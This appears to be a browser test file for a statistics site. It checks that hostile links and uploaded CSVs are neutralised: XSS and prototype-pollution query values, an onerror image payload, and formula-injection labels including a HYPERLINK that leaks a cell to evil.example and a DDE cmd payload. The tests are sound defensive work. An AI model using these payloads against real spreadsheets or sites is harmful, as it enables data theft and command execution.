/**
 * Hostile input in Chromium, with the site's CSP in force: hostile links to the scatter, map and
 * compare pages show exactly the view their readers give and change nothing else on the page;
 * /your-data/ saves residuals whose every cell is safe in a spreadsheet, draws every point of a file
 * whose labels hold control characters (and saves it as valid SVG and as PNG), and answers values
 * near the limits of a double with the right statistics or a message, never NaN or ∞.
 */
import { readFileSync } from 'node:fs';
import Papa from 'papaparse';
import type { Page } from 'playwright-core';
import { describe, expect, it } from 'vitest';
import { readCompareSlugs, writeCompareSlugs } from '../../src/lib/compare-state.ts';
import { FORMULA_START } from '../../src/lib/csv-writer.ts';
import { analyse } from '../../src/lib/your-data-analysis.ts';
import { readMapState, writeMapState } from '../../src/islands/map-island.ts';
import { readState, writeState } from '../../src/islands/scatter-island.ts';
import { DISGUISED_SLUGS, enc, XSS } from '../support/hostile.ts';
import { watchNetwork } from '../support/network-quiet.ts';
import { useSite } from '../support/site-session.ts';

const site = useSite();

interface Watched {
  page: Page;
  /** Resolves once the page's network has been quiet for a moment (tests/support/network-quiet.ts). */
  quiet: () => Promise<void>;
  /** Dialogs, page errors, console errors and warnings, CSP violations, requests off 127.0.0.1. */
  trouble: string[];
  workers: string[];
}

async function open(path: string): Promise<Watched> {
  const context = await site.browser.newContext({ viewport: { width: 1280, height: 900 }, acceptDownloads: true });
  const page = await context.newPage();
  const trouble: string[] = [];
  const workers: string[] = [];
  page.on('dialog', (dialog) => {
    trouble.push(`dialog: ${dialog.message()}`);
    void dialog.dismiss();
  });
  page.on('pageerror', (error) => trouble.push(`pageerror: ${error.message}`));
  page.on('console', (message) => {
    if (['error', 'warning'].includes(message.type())) trouble.push(`console ${message.type()}: ${message.text()}`);
  });
  page.on('worker', (worker) => workers.push(worker.url()));
  page.on('request', (request) => {
    const url = request.url();
    if (!url.startsWith('blob:') && !url.startsWith('data:') && new URL(url).hostname !== '127.0.0.1') trouble.push(`request: ${url}`);
  });
  await page.addInitScript(() => {
    document.addEventListener('securitypolicyviolation', (event) => {
      console.error(`CSP violation: ${event.violatedDirective} ${event.blockedURI}`);
    });
  });
  const quiet = watchNetwork(page);
  await page.goto(site.server.urlOf(path));
  await page.waitForLoadState('load');
  return { page, quiet, trouble, workers };
}

/** The page as the reader sees it after the islands ran: the body's markup and the address. */
async function snapshot({ page, quiet }: Watched): Promise<{ body: string; search: string; hash: string }> {
  // Islands are module scripts: they have run by the load event; the scatter then fetches the view
  // it shows (views load on demand), and one more frame lets any replaceState land.
  await quiet();
  await page.evaluate(() => new Promise((done) => requestAnimationFrame(() => done(null))));
  return page.evaluate(() => ({ body: document.body.outerHTML, search: location.search, hash: location.hash }));
}

// 100,000 characters are in the readers' unit tests; the test server, like Node's, refuses request headers over 16 KB.
const LONG = 'A'.repeat(4_000);

describe('hostile links show exactly the view their reader gives, and nothing else changes', () => {
  const scatterSlugs = new Set(['tokyo', 'osaka', 'aomori']); // enough for the cases below
  const compareSlugs = new Set(['aomori', 'tokyo', 'osaka', 'kyoto', 'hokkaido', 'iwate', 'miyagi', 'akita']);
  const cases: { name: string; page: string; query: string; canonical: string }[] = [];
  const add = (page: string, query: string, canonical: string) =>
    cases.push({
      name: `${page}${query.length > 80 ? `${query.slice(0, 60)}…(${query.length} chars)` : query} → "${canonical}"`,
      page,
      query,
      canonical,
    });

  for (const s of [...XSS, '__proto__', LONG, 'BLOCK', ...DISGUISED_SLUGS])
    add('/scatter/', `?colour=${enc(s)}&x=${enc(s)}&p=${enc(s)}`, '');
  for (const query of [
    '?colour=block&colour=group&x=log&x=linear',
    '?p=%E6%9D%B1%E4%BA%AC',
    '?p=tokyo&x=log&junk=%3Cb%3E',
    '?colour=group&x=linear',
  ]) {
    add('/scatter/', query, writeState(readState(query, scatterSlugs)));
  }
  add('/en/scatter/', `?p=${enc(XSS[1])}&colour=block`, '?colour=block');

  for (const s of [...XSS, '__proto__', LONG, 'BIVARIATE']) add('/map/', `?indicator=${enc(s)}&classes=${enc(s)}`, '');
  for (const query of [
    '?indicator=bivariate&indicator=smesPerAgency&classes=equal&classes=quantile',
    '?indicator=smesPerAgency&classes=quantile',
  ]) {
    add('/map/', query, writeMapState(readMapState(query)));
  }
  add('/en/map/', `?indicator=${enc(XSS[2])}&classes=equal`, '?classes=equal');

  for (const s of [
    ...XSS,
    '"],template[data-card="tokyo',
    LONG,
    '__proto__,constructor,toString',
    '東京都,とうきょう',
    'TOKYO,Osaka',
    ...DISGUISED_SLUGS,
  ]) {
    add('/compare/', `?p=${enc(s)}`, writeCompareSlugs(readCompareSlugs(`?p=${enc(s)}`, compareSlugs)));
  }
  for (const query of [
    '?p=tokyo,tokyo,tokyo',
    '?p=hokkaido,aomori,iwate,miyagi,akita',
    '?p=tokyo,',
    '?p=,,,,',
    '?p=%20tokyo%20,%20osaka%20',
    '?p=osaka&p=kyoto,hokkaido',
    '?p=unknown-slug,nope',
  ]) {
    add('/compare/', query, writeCompareSlugs(readCompareSlugs(query, compareSlugs)));
  }
  add('/en/compare/', `?p=${enc(XSS[0])},osaka`, '?p=osaka,aomori');

  /** The page at its canonical address, once per address, shared by the cases that expect it. */
  const canonicalPages = new Map<string, ReturnType<typeof snapshot>>();
  const canonicalPage = (key: string) => {
    let seen = canonicalPages.get(key);
    if (seen === undefined) {
      seen = (async () => {
        const clean = await open(key);
        const shown = await snapshot(clean);
        await clean.page.context().close();
        if (clean.trouble.length > 0) throw new Error(`${key}:\n${clean.trouble.join('\n')}`);
        return shown;
      })();
      canonicalPages.set(key, seen);
    }
    return seen;
  };

  // Each case has a browser context of its own, so two run at once (vitest's maxConcurrency).
  it.concurrent.for(cases)('$name', { timeout: 120_000 }, async ({ page: path, query, canonical }, { expect }) => {
    const expected = await canonicalPage(`${path}${canonical}`);
    const hostile = await open(`${path}${query}`);
    const seen = await snapshot(hostile);
    // The compare page keeps the plain address plain (it shows the default pair); every other
    // hostile address is rewritten to the view shown.
    expect(seen.search).toBe(canonical === '' && path.includes('compare') ? '' : canonical);
    expect(seen.body).toBe(expected.body);
    expect(hostile.trouble).toEqual([]);
    await hostile.page.context().close();
  });

  it('the map keeps a hostile #hash as inert text in the address, nowhere in the page', async () => {
    const hash = `#${enc('<img src=x onerror=alert(1)>')}`;
    const hostile = await open(`/map/?indicator=${enc(XSS[0])}${hash}`);
    const seen = await snapshot(hostile);
    const clean = await open('/map/');
    expect(seen).toEqual({ ...(await snapshot(clean)), hash });
    expect(hostile.trouble).toEqual([]);
    await hostile.page.context().close();
    await clean.page.context().close();
  });
});

async function upload(page: Page, name: string, text: string): Promise<void> {
  await page.setInputFiles('#your-data-file', { name, mimeType: 'text/csv', buffer: Buffer.from(text, 'utf8') });
  await page.locator('fieldset[data-columns]').waitFor({ state: 'visible', timeout: 60_000 });
  await expect.poll(() => page.locator('form[data-your-data]').getAttribute('aria-busy'), { timeout: 60_000 }).toBe('false');
}

async function download(page: Page, selector: string): Promise<Buffer> {
  const [file] = await Promise.all([page.waitForEvent('download'), page.click(selector)]);
  return readFileSync((await file.path())!);
}

const PNG_SIGNATURE = [0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a];

/** What the page's own XML parser makes of an SVG text: its parse error, or the circle count. */
function parseSvgIn(page: Page, svg: string) {
  return page.evaluate((text) => {
    const doc = new DOMParser().parseFromString(text, 'image/svg+xml');
    const error = doc.querySelector('parsererror');
    return { error: error ? (error.textContent ?? 'parsererror') : null, circles: doc.querySelectorAll('circle').length };
  }, svg);
}

describe('your data: the residuals CSV with hostile labels and headers (review F2.1)', () => {
  const labels = [
    '=HYPERLINK("http://evil.example/?d="&A1,"Click")',
    '+1+2',
    '-2+3',
    '@SUM(1+1)',
    '=1+2',
    '\t=1+2',
    "\r=cmd|' /C calc'!A0",
    ' =1+2',
    '|ping',
    '-1.5',
    'plain',
  ];
  const xs = [1, 2, 3, 4, 5, 6, 7, 8, 9, 10, 11];
  const ys = [2.1, 2.9, 4.2, 3.8, 6.1, 5.7, 7.4, 8.2, 8.8, 10.3, 9.9];
  const quote = (cell: string) => `"${cell.replaceAll('"', '""')}"`;
  const file = ['=name,+x,-y', ...labels.map((label, i) => `${quote(label)},${xs[i]},${-ys[i]}`)].join('\r\n');

  it('writes every cell as text that no spreadsheet runs, and every number as the number', async () => {
    const { page, trouble, workers } = await open('/en/your-data/');
    await upload(page, 'csv-injection.csv', file);
    await page.selectOption('#your-data-label', { index: 0 });
    await page.selectOption('#your-data-x', { index: 1 });
    await page.selectOption('#your-data-y', { index: 2 });
    await expect.poll(() => page.locator('dd[data-stat="n"]').textContent(), { timeout: 30_000 }).toBe('11');
    const csv = (await download(page, '[data-download-residuals]')).toString('utf8');
    expect(csv.startsWith('\uFEFF')).toBe(true);
    expect(csv.endsWith('\r\n')).toBe(true);
    const rows = Papa.parse<string[]>(csv.slice(1, -2), { newline: '\r\n' }).data;
    expect(rows).toHaveLength(12);
    expect(rows[0]).toEqual(['rank', 'line', "'=name", "'+x", "'-y", 'fitted', 'residual']);

    // The page's own labels (the table may tidy whitespace); each must come back with one apostrophe if it looks like a formula.
    const shown = new Map(
      await page
        .locator('[data-ranked] tbody tr')
        .evaluateAll((trs) =>
          trs.map((tr) => [tr.querySelectorAll('td')[1]?.textContent ?? '', tr.querySelector('th')?.textContent ?? ''] as [string, string]),
        ),
    );
    const analysis = analyse(labels.map((label, i) => ({ line: i + 2, label: shown.get(String(i + 2)) ?? label, x: xs[i], y: -ys[i] })));
    if ('kind' in analysis) throw new Error(analysis.kind);
    const expected = analysis.ranked.map((p, i) => [
      String(i + 1),
      String(p.line),
      FORMULA_START.test(p.label) ? `'${p.label}` : p.label,
      String(p.x),
      String(p.y),
      String(p.fitted),
      String(p.residual),
    ]);
    expect(rows.slice(1)).toEqual(expected);
    for (const row of rows) {
      for (const [column, cell] of row.entries()) {
        // Text columns start with the apostrophe or a harmless character; number columns are numbers (−9.9 included).
        if (column === 2 || rows[0] === row) expect(FORMULA_START.test(cell), cell).toBe(false);
        else expect(Number.isFinite(Number(cell)), cell).toBe(true);
      }
    }
    // Every hostile label is in the file, neutralised, whatever whitespace the table tidied.
    for (const label of labels) {
      const core = label.trim();
      expect(
        rows.some((row) => row[2] === (FORMULA_START.test(core) ? `'${core}` : core) || row[2] === `'${label}` || row[2] === label),
      ).toBe(true);
    }
    expect(workers).toHaveLength(1);
    expect(workers[0]).toMatch(/^http:\/\/127\.0\.0\.1:\d+\/_astro\/your-data\.worker-[\w-]+\.js$/);
    expect(trouble).toEqual([]);
    await page.context().close();
  });
});

describe('your data: control characters in labels and headers (review F2.2)', () => {
  it('draws all 7 points of control-chars-label.csv and saves a valid SVG and a PNG', async () => {
    const labels = ['bell\u0007label', 'vt\u000Blabel', 'esc\u001Blabel', 'nonchar\uFFFElabel', 'plain one', 'plain two', 'plain three'];
    const text = ['name,x,y', ...labels.map((label, i) => `${label},${i + 1},${(i * 3) % 7}`)].join('\n');
    const { page, trouble } = await open('/en/your-data/');
    await upload(page, 'control-chars-label.csv', text);
    await page.selectOption('#your-data-label', { index: 0 });
    await page.selectOption('#your-data-x', { index: 1 });
    await page.selectOption('#your-data-y', { index: 2 });
    await expect.poll(() => page.locator('dd[data-stat="n"]').textContent(), { timeout: 30_000 }).toBe('7');
    expect(await page.locator('[data-chart] svg circle').count()).toBe(7);
    expect(await page.locator('[data-chart] parsererror, parsererror').count()).toBe(0);
    const svg = (await download(page, '#your-data-chart .chart-download button[data-format="svg"]')).toString('utf8');
    expect(svg).not.toMatch(/[\u0000-\u0008\u000B\u000C\u000E-\u001F\uFFFE\uFFFF]/);
    expect(await parseSvgIn(page, svg)).toEqual({ error: null, circles: 7 });
    expect(svg).toContain('belllabel');
    const png = await download(page, '#your-data-chart .chart-download button[data-format="png"]');
    expect([...png.subarray(0, 8)]).toEqual(PNG_SIGNATURE);
    expect(trouble).toEqual([]);
    await page.context().close();
  });

  it('control-chars-header.csv (x\\u0001axis): the chart, the SVG and the PNG all work', async () => {
    const text = ['name,x\u0001axis,y', ...[1, 2, 3, 4, 5, 6].map((v) => `p${v},${v},${(v * 5) % 7}`)].join('\n');
    const { page, trouble } = await open('/en/your-data/');
    await upload(page, 'control-chars-header.csv', text);
    await page.selectOption('#your-data-label', { index: 0 });
    await page.selectOption('#your-data-x', { index: 1 });
    await page.selectOption('#your-data-y', { index: 2 });
    await expect.poll(() => page.locator('dd[data-stat="n"]').textContent(), { timeout: 30_000 }).toBe('6');
    expect(await page.locator('[data-chart] svg circle').count()).toBe(6);
    const svg = (await download(page, '#your-data-chart .chart-download button[data-format="svg"]')).toString('utf8');
    expect(await parseSvgIn(page, svg)).toEqual({ error: null, circles: 6 });
    expect(svg).toContain('y against xaxis');
    const png = await download(page, '#your-data-chart .chart-download button[data-format="png"]');
    expect([...png.subarray(0, 8)]).toEqual(PNG_SIGNATURE);
    expect(trouble).toEqual([]);
    await page.context().close();
  });
});

describe('your data: values near the limits of a double (review F2.3)', () => {
  /** Every number the page shows or draws, as text: none may be NaN or infinite. */
  const brokenNumbers = (page: Page) =>
    page.evaluate(() => {
      const text = document.querySelector('main')?.textContent ?? '';
      const attrs = [...document.querySelectorAll('[data-chart] svg *')].flatMap((el) => [...el.attributes].map((a) => a.value));
      return [...text.matchAll(/NaN|Infinity|∞/g), ...attrs.filter((v) => /NaN|Infinity/.test(v))].map(String);
    });

  it('huge-y.csv gives Pearson −0.1395 (the true r), with every number finite', async () => {
    const text = ['name,x,y', ...['1e200', '2e200', '-3e200', '5e199', '1e200', '0'].map((y, i) => `p${i},${i},${y}`)].join('\n');
    const { page, trouble } = await open('/en/your-data/');
    await upload(page, 'huge-y.csv', text);
    await page.selectOption('#your-data-label', { index: 0 });
    await page.selectOption('#your-data-x', { index: 1 });
    await page.selectOption('#your-data-y', { index: 2 });
    await expect.poll(() => page.locator('dd[data-stat="n"]').textContent(), { timeout: 30_000 }).toBe('6');
    expect(await page.locator('dd[data-stat="pearson"]').textContent()).toBe('-0.1395');
    expect(await page.locator('dd[data-stat="p"]').textContent()).toBe('0.792');
    expect(await page.locator('dd[data-stat="r2"]').textContent()).toBe('0.0194');
    expect(await page.locator('[data-chart] svg circle').count()).toBe(6);
    expect(await brokenNumbers(page)).toEqual([]);
    expect(trouble).toEqual([]);
    await page.context().close();
  });

  it.each([
    {
      name: 'overflow.csv',
      x: ['1e308', '-1e308', '1.5e308', '-1.7e308', '1e307', '0'],
      y: ['1', '2', '3', '4', '5', '6'],
      message:
        'Line 2: the x value 1e+308 is beyond ±1e300, too large to compute with reliably. Rescale the column (for example, divide it by 1e100) and choose the file again.',
    },
    {
      name: 'numbers.csv',
      x: ['1', '2', '3', '4', '5', '6'],
      y: ['1', '2', '-1e308', '4', '1e308', '6'],
      message:
        'Line 4: the y value -1e+308 is beyond ±1e300, too large to compute with reliably. Rescale the column (for example, divide it by 1e100) and choose the file again.',
    },
    {
      name: 'tiny-x-huge-y.csv',
      x: ['1e-300', '2e-300', '3e-300', '5e-300'],
      y: ['1e300', '-1e300', '5e299', '0'],
      message:
        'The fitted line cannot be computed: its slope or residuals would exceed the largest number a browser can hold. Rescale one of the columns and choose the file again.',
    },
  ])('$name: "$message", and no statistic, chart or NaN is shown', async ({ name, x, y, message }) => {
    const text = ['name,x,y', ...x.map((v, i) => `p${i},${v},${y[i]}`)].join('\n');
    const { page, trouble } = await open('/en/your-data/');
    await upload(page, name, text);
    await page.selectOption('#your-data-label', { index: 0 });
    await page.selectOption('#your-data-x', { index: 1 });
    await page.selectOption('#your-data-y', { index: 2 });
    await expect.poll(() => page.locator('[data-status]').textContent(), { timeout: 30_000 }).toBe(message);
    expect(await page.locator('[data-stats] dd').count()).toBe(0);
    expect(await page.locator('[data-chart] svg').count()).toBe(0);
    expect(await page.locator('[data-ranked] tbody tr').count()).toBe(0);
    expect(await brokenNumbers(page)).toEqual([]);
    expect(trouble).toEqual([]);
    await page.context().close();
  });

  it('the Japanese page words the same refusal in Japanese', async () => {
    const text = ['name,x,y', ...['1e308', '2', '3', '4'].map((v, i) => `p${i},${v},${i}`)].join('\n');
    const { page } = await open('/your-data/');
    await upload(page, 'overflow.csv', text);
    await page.selectOption('#your-data-label', { index: 0 });
    await page.selectOption('#your-data-x', { index: 1 });
    await page.selectOption('#your-data-y', { index: 2 });
    await expect
      .poll(() => page.locator('[data-status]').textContent(), { timeout: 30_000 })
      .toBe(
        '2行目：xの値 1e+308 は±1e300を超えており、正しく計算できません。列の単位を変えて（例：1e100で割って）から、もう一度ファイルを選んでください。',
      );
    await page.context().close();
  });
});
